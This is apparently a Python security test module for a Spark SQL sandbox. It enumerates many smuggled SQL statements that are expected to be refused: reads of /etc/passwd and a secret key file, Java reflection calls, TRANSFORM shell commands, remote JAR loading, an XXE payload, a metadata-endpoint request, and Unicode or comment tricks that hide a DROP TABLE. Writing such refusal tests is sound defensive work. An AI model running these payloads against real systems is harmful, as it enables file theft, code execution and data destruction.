"""Statements that look like one query and do more: each is refused, by a rule that says why, and changes nothing."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from tests.attacks.table import ATTACKS, Attack, Attempt
from workers.ports import StatementFailed, StatementRefused

if TYPE_CHECKING:
    from workers.adapters.sandbox.engine import SparkSandbox

CLASS = "sql-smuggling"

#: Those that sqlglot and a look at the first word take for plain selects or miss; HOME is replaced by the home's path.
SEVEN = [
    ("sql.statement_class", "SELECT TRANSFORM (c_name) USING 'cat HOME/keys/secret.txt' AS (line) FROM tpch.customer"),
    ("sql.relation", "SELECT * FROM text.`HOME/keys/secret.txt`"),
    ("sql.relation", "SELECT * FROM IDENTIFIER('text.`HOME/keys/secret.txt`')"),
    ("sql.function", "SELECT java_method('java.nio.file.Files', 'readString', 'HOME/keys/secret.txt')"),
    ("sql.statement_class", "EXECUTE IMMEDIATE 'SELECT * FROM text.`HOME/keys/secret.txt`'"),
    ("sql.statement_class", "BEGIN SELECT 1; DROP TABLE tpch.nation; END"),
    ("sql.statement_class", "CREATE TABLE tpch.stolen USING text LOCATION 'HOME/keys'"),
]

PATHS = [
    ("sql.relation", "SELECT * FROM delta.`HOME/tables/agent_messages`"),
    ("sql.relation", "SELECT * FROM DELTA.`HOME/tables/agent_messages`"),
    ("sql.relation", "SELECT * FROM delta.`file:HOME/tables/agent_messages`"),
    ("sql.relation", "SELECT * FROM parquet.`HOME/warehouse/tpch/nation`"),
    ("sql.relation", "SELECT * FROM csv.`/etc/passwd`"),
    ("sql.relation", "SELECT * FROM json.`/proc/self/environ`"),
    ("sql.relation", "SELECT * FROM binaryFile.`HOME/keys`"),
    ("sql.relation", "SELECT * FROM `HOME/keys/secret.txt`"),
    ("sql.relation", "SELECT * FROM spark_catalog.delta.`HOME/tables/agent_messages`"),
    ("sql.relation", "SELECT n_name FROM tpch.nation WHERE n_name IN (SELECT value FROM text.`/etc/passwd`)"),
    ("sql.relation", "SELECT (SELECT max(value) FROM text.`/etc/passwd`) AS line"),
    ("sql.relation", "SELECT 1 WHERE EXISTS (SELECT 1 FROM text.`/etc/passwd`)"),
    ("sql.relation", "WITH x AS (SELECT * FROM text.`/etc/passwd`) SELECT * FROM x"),
    ("sql.relation", "WITH a AS (WITH b AS (SELECT * FROM text.`/etc/passwd`) SELECT * FROM b) SELECT * FROM a"),
    ("sql.relation", "SELECT * FROM tpch.nation UNION ALL SELECT * FROM text.`/etc/passwd`"),
    ("sql.relation", "SELECT * FROM tpch.nation JOIN LATERAL (SELECT * FROM text.`/etc/passwd`) ON true"),
    ("sql.relation", "SELECT n_name FROM tpch.nation ORDER BY (SELECT max(value) FROM text.`/etc/passwd`)"),
    ("sql.relation", "SELECT sum(n_nationkey) FILTER (WHERE (SELECT true FROM text.`/etc/passwd`)) FROM tpch.nation"),
    ("sql.relation", "SELECT n_name FROM tpch.nation GROUP BY n_name HAVING (SELECT true FROM text.`/etc/passwd`)"),
    ("sql.relation", "SELECT CASE WHEN (SELECT true FROM text.`/etc/passwd`) THEN 1 END"),
    ("sql.relation", "SELECT * FROM tpch.nation n JOIN tpch.region r ON (SELECT true FROM text.`/etc/passwd`)"),
    ("sql.relation", "SELECT * FROM (VALUES ((SELECT max(value) FROM text.`/etc/passwd`))) AS t(a)"),
    ("sql.relation", "SELECT * FROM IDENTIFIER('text' || '.`/etc/passwd`')"),
    ("sql.relation", "TABLE text.`/etc/passwd`"),
    ("sql.relation", "FROM text.`/etc/passwd` SELECT *"),
    ("sql.relation", "FROM text.`/etc/passwd` |> SELECT *"),
    ("sql.relation", "SELECT * FROM tpch.`nation@v0`"),
    ("sql.relation", "SELECT * FROM tpch.`../../tables/agent_messages`"),
    ("sql.relation", "SELECT * FROM tables.agent_messages"),
    ("sql.relation", "SELECT * FROM spark_catalog.tpch.nation"),
    ("sql.relation", "SELECT * FROM information_schema.tables"),
    ("sql.relation", "SELECT * FROM global_temp.nation"),
    ("sql.relation", "SELECT * FROM system.session.nation"),
    ("sql.relation", "SELECT * FROM tpch.nation VERSION AS OF 0"),
    ("sql.relation", "SELECT * FROM tpch.nation TIMESTAMP AS OF '2020-01-01'"),
    ("sql.relation", "SELECT * FROM STREAM(tpch.nation)"),
    ("sql.relation", "SELECT * FROM tpch.nation WITH ('readChangeFeed' = 'true')"),
    ("sql.relation", "SELECT * FROM range(1000000000000)"),
    ("sql.relation", "SELECT * FROM TABLE(range(3))"),
    ("sql.relation", "SELECT * FROM read_files('/etc/passwd')"),
    ("sql.relation", "SELECT * FROM table_changes('tpch.nation', 0)"),
    ("sql.relation", "SELECT * FROM explode(array(1, 2))"),
]

FUNCTIONS = [
    ("sql.function", "SELECT reflect('java.lang.Runtime', 'getRuntime')"),
    ("sql.function", "SELECT try_reflect('java.lang.System', 'getenv', 'PATH')"),
    ("sql.function", "SELECT JAVA_METHOD('java.lang.System', 'exit', 1)"),
    ("sql.function", "SELECT `java_method`('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT `Java_Method` ('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT system.builtin.java_method('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT /**/ java_method /* x */ ('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT max(java_method('java.lang.System', 'getProperty', 'user.dir')) FROM tpch.nation"),
    ("sql.function", "SELECT n_name FROM tpch.nation ORDER BY reflect('java.lang.Math', 'random')"),
    ("sql.function", "SELECT sum(1) OVER (PARTITION BY reflect('java.lang.Math', 'random')) FROM tpch.nation"),
    (
        "sql.function",
        "SELECT sum(1) OVER w FROM tpch.nation WINDOW w AS (ORDER BY reflect('java.lang.Math', 'random'))",
    ),
    ("sql.function", "SELECT count(*) FROM tpch.nation GROUP BY GROUPING SETS ((reflect('java.lang.Math', 'random')))"),
    ("sql.expression", "SELECT IDENTIFIER('java_method')('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.expression", "SELECT IDENTIFIER('java' || '_method')('java.lang.System', 'getProperty', 'user.dir')"),
    ("sql.function", "SELECT my_udf(n_name) FROM tpch.nation"),
    ("sql.function", "SELECT tpch.my_udf(n_name) FROM tpch.nation"),
    ("sql.syntax", "SELECT jаva_method('x', 'y')"),  # noqa: RUF001  # a Cyrillic letter: it must not pass for the Latin one
    ("sql.syntax", "SELECT ＳＵＭ(n_nationkey) FROM tpch.nation"),  # noqa: RUF001  # full-width letters
    ("sql.function", "SELECT `jаva_method`('x', 'y')"),  # noqa: RUF001  # the same, quoted
    ("sql.function", "SELECT input_file_name() FROM tpch.nation"),
    ("sql.function", "SELECT from_csv('1', 'a INT', map('mode', 'PERMISSIVE'))"),
    ("sql.function", "SELECT xpath_string('<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>', 'a')"),
    ("sql.function", "SELECT aes_decrypt('x', 'y')"),
    ("sql.function", "SELECT raise_error('x')"),
    ("sql.function", "SELECT ai_query('model', 'prompt')"),
    ("sql.function", "SELECT http_request('http://169.254.169.254/')"),
    ("sql.function", "SELECT secret('scope', 'key')"),
    ("sql.function", "SELECT explode(sequence(1, 1000000000))"),
    ("sql.function", "SELECT repeat('x', 2000000000)"),
    ("sql.function", "SELECT array_repeat(n_name, 2000000000) FROM tpch.nation"),
    ("sql.function", "SELECT rand()"),
    ("sql.function", "SELECT current_timestamp()"),
    ("sql.expression", "SELECT max(x -> x + 1)"),
    ("sql.expression", "SELECT current_user"),
    ("sql.expression", "SELECT current_date"),
    ("sql.function", "SELECT aggregate(array(1), 0, (a, b) -> a + b)"),
]

STATEMENTS = [
    ("target.protected", "CREATE TABLE tpch.copied USING delta AS SELECT * FROM tpch.nation"),
    ("target.protected", "CREATE OR REPLACE TABLE tpch.nation USING delta AS SELECT 1 AS a"),
    ("sql.statement_class", "CREATE TEMPORARY VIEW nation AS SELECT * FROM text.`/etc/passwd`"),
    ("sql.statement_class", "CREATE TEMPORARY VIEW v USING text OPTIONS (path 'HOME/keys/secret.txt')"),
    ("sql.statement_class", "CREATE VIEW tpch.v AS SELECT 1"),
    ("sql.statement_class", "CREATE FUNCTION f AS 'java.lang.Runtime' USING JAR 'http://example.org/x.jar'"),
    ("sql.statement_class", "CREATE TEMPORARY FUNCTION sum() RETURNS INT RETURN 1"),
    ("sql.statement_class", "CREATE SCHEMA stolen LOCATION 'HOME/keys'"),
    ("target.protected", "DROP TABLE tpch.nation"),
    ("target.protected", "dRoP /* x */ TABLE IF EXISTS tpch.nation"),
    ("target.protected", "-- only reading\nDROP TABLE tpch.nation"),
    ("target.protected", "/* SELECT */ DROP TABLE tpch.nation;"),
    ("sql.statement_class", "DROP SCHEMA tpch CASCADE"),
    ("target.protected", "INSERT INTO tpch.nation SELECT * FROM tpch.nation"),
    ("sql.statement_class", "WITH x AS (SELECT * FROM tpch.nation) INSERT INTO tpch.nation SELECT * FROM x"),
    ("target.protected", "FROM tpch.nation INSERT INTO tpch.nation SELECT *"),
    ("sql.statement_class", "FROM tpch.nation INSERT INTO tpch.a SELECT * INSERT INTO tpch.b SELECT *"),
    ("sql.statement_class", "INSERT OVERWRITE DIRECTORY 'HOME/warehouse/x' USING csv SELECT * FROM tpch.nation"),
    ("target.name", "INSERT INTO delta.`HOME/warehouse/tpch/nation` SELECT * FROM tpch.nation"),
    ("target.protected", "DELETE FROM tpch.nation"),
    ("target.protected", "UPDATE tpch.nation SET n_name = 'x'"),
    (
        "target.protected",
        "MERGE INTO tpch.nation t USING tpch.region s ON t.n_regionkey = s.r_regionkey WHEN MATCHED THEN DELETE",
    ),
    ("target.protected", "TRUNCATE TABLE tpch.nation"),
    ("target.protected", "ALTER TABLE tpch.nation ADD COLUMN x INT"),
    ("sql.statement_class", "ALTER TABLE tpch.nation SET LOCATION 'HOME/keys'"),
    ("sql.statement_class", "LOAD DATA INPATH '/etc/passwd' INTO TABLE tpch.nation"),
    ("sql.statement_class", "CALL tpch.clean()"),
    ("sql.statement_class", "VACUUM tpch.nation RETAIN 0 HOURS"),
    ("sql.statement_class", "OPTIMIZE tpch.nation"),
    ("sql.statement_class", "RESTORE TABLE tpch.nation TO VERSION AS OF 0"),
    ("sql.statement_class", "DESCRIBE HISTORY tpch.nation"),
    ("sql.statement_class", "DESCRIBE DETAIL delta.`HOME/tables/agent_messages`"),
    ("sql.statement_class", "CONVERT TO DELTA parquet.`HOME/warehouse/tpch/nation`"),
    ("sql.statement_class", "SET spark.sql.runSQLOnFiles=true"),
    ("sql.statement_class", "SET"),
    ("sql.statement_class", "RESET"),
    ("sql.statement_class", "SET VAR x = 1"),
    ("sql.statement_class", "DECLARE VARIABLE x INT DEFAULT 1"),
    ("sql.statement_class", "ADD JAR 'http://example.org/x.jar'"),
    ("sql.statement_class", "ADD FILE '/etc/passwd'"),
    ("sql.statement_class", "LIST JARS"),
    ("sql.statement_class", "CACHE TABLE x AS SELECT * FROM text.`/etc/passwd`"),
    ("sql.statement_class", "UNCACHE TABLE tpch.nation"),
    ("sql.statement_class", "CLEAR CACHE"),
    ("sql.statement_class", "REFRESH TABLE tpch.nation"),
    ("sql.statement_class", "REFRESH 'HOME/keys'"),
    ("sql.statement_class", "EXPLAIN SELECT * FROM tpch.nation"),
    ("sql.statement_class", "EXPLAIN EXTENDED CREATE TABLE tpch.x AS SELECT 1"),
    ("sql.statement_class", "DESCRIBE tpch.nation"),
    ("sql.statement_class", "SHOW TABLES IN tpch"),
    ("sql.statement_class", "SHOW CREATE TABLE tpch.nation"),
    ("sql.statement_class", "USE results"),
    ("sql.statement_class", "ANALYZE TABLE tpch.nation COMPUTE STATISTICS"),
    ("sql.statement_class", "EXECUTE IMMEDIATE 'DROP TABLE ' || 'tpch.nation'"),
    ("sql.statement_class", "BEGIN DECLARE x INT; SET x = 1; EXECUTE IMMEDIATE 'SELECT 1'; END"),
    ("sql.statement_class", "SELECT * FROM (SELECT TRANSFORM (n_name) USING 'sh -c id' AS (a) FROM tpch.nation)"),
    ("sql.statement_class", "FROM tpch.nation MAP n_name USING 'id' AS a"),
    ("sql.multiple_statements", "SELECT 1; DROP TABLE tpch.nation"),
    ("sql.multiple_statements", "SELECT 1;; SELECT 2"),
    ("sql.multiple_statements", "SELECT ';' AS a; /* ; */ DELETE FROM tpch.nation -- ;"),
]

WRITES = [
    ("target.name", "DELETE FROM delta.`HOME/tables/agent_messages`"),
    ("target.name", "UPDATE delta.`HOME/warehouse/tpch/nation` SET n_name = 'x'"),
    (
        "target.name",
        "MERGE INTO delta.`HOME/tables/agent_messages` t USING tpch.nation s ON true WHEN MATCHED THEN DELETE",
    ),
    ("target.name", "DELETE FROM nation"),
    ("target.name", "DROP TABLE spark_catalog.results.kept"),
    ("target.name", "CREATE TABLE results.`../../keys/x` AS SELECT 1 AS a"),
    ("target.name", "INSERT INTO results.kept WITH ('path' = 'HOME/keys') SELECT 1 AS a"),
    ("target.name", "TRUNCATE TABLE results.`kept@v0`"),
    ("target.schema", "DELETE FROM tables.agent_messages"),
    ("sql.clause", "CREATE TABLE results.stolen LOCATION 'HOME/keys' AS SELECT 1 AS a"),
    ("sql.clause", "CREATE TABLE results.stolen USING csv AS SELECT 1 AS a"),
    ("sql.clause", "CREATE TABLE results.stolen TBLPROPERTIES ('delta.appendOnly' = 'true') AS SELECT 1 AS a"),
    ("sql.clause", "CREATE TABLE results.stolen OPTIONS (path 'HOME/keys') AS SELECT 1 AS a"),
    ("sql.clause", "CREATE TABLE IF NOT EXISTS results.kept AS SELECT 1 AS a"),
    ("sql.clause", "INSERT WITH SCHEMA EVOLUTION INTO results.kept SELECT 1 AS a, 2 AS b"),
    (
        "sql.clause",
        "MERGE WITH SCHEMA EVOLUTION INTO results.kept t USING tpch.nation s ON true WHEN MATCHED THEN UPDATE SET *",
    ),
    ("sql.clause", "ALTER TABLE results.kept ADD COLUMN x INT DEFAULT 1"),
    ("sql.relation", "INSERT INTO results.kept SELECT value FROM text.`HOME/keys/secret.txt`"),
    ("sql.relation", "CREATE TABLE results.stolen AS SELECT * FROM text.`/etc/passwd`"),
    (
        "sql.relation",
        "MERGE INTO results.kept t USING delta.`HOME/tables/agent_messages` s ON true WHEN MATCHED THEN DELETE",
    ),
    ("sql.relation", "DELETE FROM results.kept WHERE a IN (SELECT value FROM text.`/etc/passwd`)"),
    ("sql.function", "UPDATE results.kept SET a = java_method('java.lang.System', 'exit', 1)"),
    ("sql.function", "DELETE FROM results.kept WHERE java_method('java.lang.System', 'exit', 1) = 1"),
    ("sql.function", "INSERT INTO results.kept VALUES (java_method('java.lang.System', 'exit', 1))"),
    ("sql.statement_class", "WITH x AS (SELECT 1 AS a) DELETE FROM results.kept"),
    ("sql.statement_class", "ALTER TABLE results.kept DROP COLUMN a"),
    ("sql.statement_class", "ALTER TABLE results.kept RENAME TO results.other"),
    ("sql.statement_class", "ALTER TABLE results.kept SET TBLPROPERTIES ('delta.appendOnly' = 'true')"),
    ("sql.statement_class", "RESTORE TABLE results.kept TO VERSION AS OF 0"),
    ("sql.syntax", "CREATE TABLE results.stolen CLONE delta.`HOME/tables/agent_messages`"),
    ("sql.statement_class", "CREATE TABLE results.stolen SHALLOW CLONE tpch.nation"),
    ("sql.statement_class", "CREATE TABLE results.stolen LIKE tpch.nation"),
    ("sql.statement_class", "FROM tpch.nation INSERT INTO results.kept SELECT 1 INSERT INTO results.kept SELECT 2"),
    ("sql.statement_class", "EXECUTE IMMEDIATE 'DELETE FROM results.kept'"),
    ("sql.statement_class", "BEGIN DELETE FROM results.kept; END"),
    ("sql.multiple_statements", "DELETE FROM results.kept WHERE a = 1; DELETE FROM results.kept"),
    ("target.missing", "DELETE FROM results.never"),
]

CLAUSES = [
    ("sql.hint", "SELECT /*+ REPARTITION(100000) */ * FROM tpch.nation"),
    ("sql.hint", "SELECT /*+ BROADCAST(nation) */ * FROM tpch.nation"),
    ("sql.clause", "SELECT * FROM tpch.nation TABLESAMPLE (10 PERCENT)"),
    ("sql.clause", "SELECT * FROM tpch.nation LATERAL VIEW explode(sequence(1, 1000000000)) t AS x"),
    ("sql.clause", "SELECT * FROM tpch.nation DISTRIBUTE BY n_name"),
    ("sql.clause", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r"),
    ("sql.parameter", "SELECT * FROM tpch.nation WHERE n_name = :name"),
    ("sql.parameter", "SELECT * FROM tpch.nation WHERE n_name = ?"),
    ("sql.syntax", "GRANT ALL ON tpch.nation TO everyone"),
    ("sql.syntax", "COPY INTO tpch.nation FROM '/etc/passwd'"),
    ("sql.syntax", "!cat /etc/passwd"),
    ("sql.syntax", "SELECT 1\0; DROP TABLE tpch.nation"),
    ("sql.empty", "  \n "),
    ("sql.too_long", "SELECT 1 -- " + "x" * 100_000),
]


#: Several statements, comments and characters that hide where one ends.
HIDDEN = [
    ("sql.multiple_statements", "SELECT 1;\n-- the end\nDROP TABLE tpch.nation"),
    ("sql.multiple_statements", "SELECT 1/**/;/**/DELETE/**/FROM/**/tpch.nation"),
    ("sql.multiple_statements", "SELECT 1 /* /* nested */ */; DROP TABLE tpch.nation"),
    ("target.protected", "/* /* nested */ */ DROP TABLE tpch.nation"),
    ("sql.syntax", "-- \\\nDROP TABLE tpch.nation"),
    ("target.protected", "DROP\nTABLE\ttpch . nation"),
    ("sql.syntax", "SELECT 1\uff1b DROP TABLE tpch.nation"),
    ("sql.syntax", "SELECT 1\u037e DROP TABLE tpch.nation"),
    ("sql.syntax", "DROP\u200b TABLE tpch.nation"),
    ("sql.syntax", "DR\u00adOP TABLE tpch.nation"),
    ("sql.syntax", "\u202eELBAT PORD\u202c tpch.nation"),
    ("sql.relation", "SELECT * FROM tpch.`natiоn`"),  # noqa: RUF001  # a Cyrillic o
    ("sql.relation", "SELECT * FROM tpch.`nation\u200b`"),
    ("sql.relation", "SELECT * FROM `tpch.nation`"),
    ("sql.syntax", "CREATE TABLE results.x AS WITH y AS (DELETE FROM tpch.nation) SELECT * FROM y"),
    ("sql.syntax", "WITH x AS (INSERT INTO results.kept SELECT 1 AS a) SELECT * FROM x"),
    ("sql.syntax", "SELECT * FROM (DROP TABLE tpch.nation)"),
    ("sql.syntax", "SELECT (CREATE TABLE results.x AS SELECT 1 AS a)"),
    ("sql.function", "SELECT dbutils.secrets.get('scope', 'key')"),
    ("sql.function", "SELECT dbutils.notebook.run('/x', 60)"),
    ("sql.syntax", "dbutils.fs.ls('/')"),
    ("sql.syntax", "%sh cat /etc/passwd"),
    (
        "sql.multiple_statements",
        "CREATE FUNCTION f() RETURNS STRING LANGUAGE PYTHON AS $$ import os; return os.getcwd() $$",
    ),
]

ALL: list[tuple[str, str]] = [*SEVEN, *PATHS, *FUNCTIONS, *STATEMENTS, *WRITES, *CLAUSES, *HIDDEN]

#: Those that do what they say where nobody looks at the plan, and what they then answer with.
PROVEN = [
    ("sql.function", "SELECT reflect('java.lang.Integer', 'toHexString', 48879)", "beef"),
    ("sql.function", "SELECT java_method('java.lang.System', 'getProperty', 'file.separator')", "/"),
    ("sql.statement_class", "SELECT TRANSFORM (1) USING 'echo smuggled' AS (line)", "smuggled"),
    ("sql.function", "SELECT input_file_name() FROM tpch.nation LIMIT 1", "warehouse/tpch/nation"),
]
#: The same, for what the walls alone have to hold: with nobody looking at the plan it runs, and reads nothing.
BEHIND_WALLS = [
    "SELECT TRANSFORM (1) USING 'cat HOME/keys/secret.txt' AS (line)",
    "SELECT java_method('java.nio.file.Files', 'readString', java_method('java.nio.file.Path', 'of', 'HOME/keys/secret.txt'))",
    "SELECT TRANSFORM (1) USING 'sh -c \\'echo x > HOME/warehouse/tpch/nation/x; cat HOME/warehouse/tpch/nation/x\\'' AS (line)",
]


@dataclass(frozen=True)
class Place:
    """Where statements are tried."""

    sandbox: SparkSandbox
    home: Path


def state_of(home: Path) -> dict[str, tuple[float, int]]:
    """Every file of the lakehouse, the keys and the bus tables, with the time it was last changed and its size."""
    found = {}
    for folder in ("warehouse", "keys", "tables"):
        for file in (home / folder).rglob("*"):
            seen = file.lstat()
            if not file.is_dir():
                found[str(file)] = (seen.st_mtime, seen.st_size)
    return found


async def rows_of(place: Place, sql: str) -> Sequence[object]:
    done = await place.sandbox.run(sql.replace("HOME", str(place.home)), None, "a grant", 10)
    return done.result.rows


def put(number: int, rule: str, sql: str, proof: str | None = None) -> None:
    async def attempt(place: Place) -> Attempt:
        before = state_of(place.home)
        try:
            await place.sandbox.dry_run(sql.replace("HOME", str(place.home)), None)
            came = str(await rows_of(place, sql)) if proof else ""
        except StatementRefused as refused:
            return Attempt(state_of(place.home) != before, frozenset({refused.rule} if refused.reason else ()))
        except StatementFailed:
            return Attempt(state_of(place.home) != before)
        return Attempt(proof is None or proof in came)

    does = sql if len(sql) < 200 else f"{sql[:60]}… ({len(sql)} characters)"
    ATTACKS.append(
        Attack(f"{CLASS}/{number:03}", CLASS, does, "plan check", rule, attempt, "plan check" if proof else None)
    )


for _number, _of in enumerate([*PROVEN, *ALL]):
    put(_number, *_of)
